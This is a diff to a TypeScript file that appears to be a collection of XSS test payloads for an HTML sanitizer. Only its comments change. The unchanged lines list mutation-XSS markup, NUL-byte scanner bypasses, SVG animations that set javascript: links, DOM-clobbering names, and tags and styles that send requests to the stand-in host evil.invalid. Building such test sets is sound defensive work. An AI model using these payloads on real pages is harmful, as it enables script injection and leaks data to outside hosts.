@@ -6,7 +6,7 @@ const away = 'https://evil.invalid'
 const NUL = String.fromCharCode(0)
 const code = (number: number): string => String.fromCharCode(number)
 
-/** What parsers read one way and browsers another: text that becomes tags when it is written and read again. */
+/** Mutation XSS: markup that a sanitizer parses as text, and that becomes tags when it is serialized and parsed again. */
 const mutations = [
   `<math><mtext><table><mglyph><style><math href="${boom}">`,
   `<math><mtext><h1><a><h6></a></h6><mglyph><svg><mtext><style><a title="</style>${boom}">x</a></style></h1>`,
@@ -36,7 +36,7 @@ const mutations = [
   `<template shadowrootmode=closed><slot></slot>${boom}</template>`,
 ]
 
-/** Bytes that scanners stumble over. */
+/** NUL bytes, control characters, odd encodings and look-alike letters that break scanners. */
 const bytes = [
   `<scr${NUL}ipt>${run}</scr${NUL}ipt>`,
   `<img src=x on${NUL}error=${run}>`,
@@ -88,7 +88,7 @@ const unclosed = [
   `<x onclick=${run} tabindex=1 autofocus onfocus=${run}>`,
 ]
 
-/** Drawings and their animations, which set attributes long after a check. */
+/** SVG and MathML, including animations that set attributes long after a sanitizer ran. */
 const drawings = [
   `<svg><a><animate attributeName="href" to="javascript:${run}" begin="0s" fill="freeze"/><text y="20">x</text></a></svg>`,
   `<svg><a xlink:href="#"><animate attributeName="xlink:href" from="javascript:${run}" to="#"/><text>x</text></a></svg>`,
@@ -110,7 +110,7 @@ const drawings = [
   `<math><semantics><annotation-xml encoding="application/xhtml+xml"><svg onload=${run}></annotation-xml></semantics></math>`,
 ]
 
-/** What asks a foreign place for something. */
+/** Markup that sends a request to a foreign origin. */
 const requests = [
   `<img srcset="${away}/a 1x, ${away}/b 2x" alt="x">`,
   `<img src="/own.png" srcset="${away}/a 1x" sizes="100vw" lowsrc="${away}/l" longdesc="${away}/d" usemap="#m" ismap>`,
@@ -141,7 +141,7 @@ const requests = [
   `<blockquote cite="javascript:${run}">x</blockquote><q cite="${away}">x</q><del cite="javascript:${run}">x</del>`,
 ]
 
-/** Style that loads, runs or covers. */
+/** Styles that load files, run scripts or cover the page. */
 const styles = [
   `<p style="background-image:url('${away}/x')">x</p>`,
   `<p style="background:\\75rl(${away}/x)">x</p>`,
@@ -159,7 +159,7 @@ const styles = [
   `<div class="app sheet backdrop" style="all:initial" hidden inert>x</div>`,
 ]
 
-/** Names that take the place of the page's own things. */
+/** Ids and names that shadow properties of `document`, `window` and elements (DOM clobbering). */
 const names = [
   '<a id=alarm></a><a name=location href="x"></a><img name=cookie id=cookie>',
   '<form id=document><input name=cookie></form><form name=window><output name=top></output></form>',
@@ -173,7 +173,7 @@ const names = [
   '<tl-login frame-header></tl-login><tl-bulletin></tl-bulletin><my-element onload=x></my-element><slot name=x></slot>',
 ]
 
-/** More attacks on a page that shows a server's HTML; each is to be shown alone, since some of them eat what follows. */
+/** Further attacks on a page that shows HTML of a server. Each must be shown in a page of its own, since some of them swallow what follows. */
 export const COLLECTION: Readonly<Record<string, readonly string[]>> = {
   mutations,
   bytes,
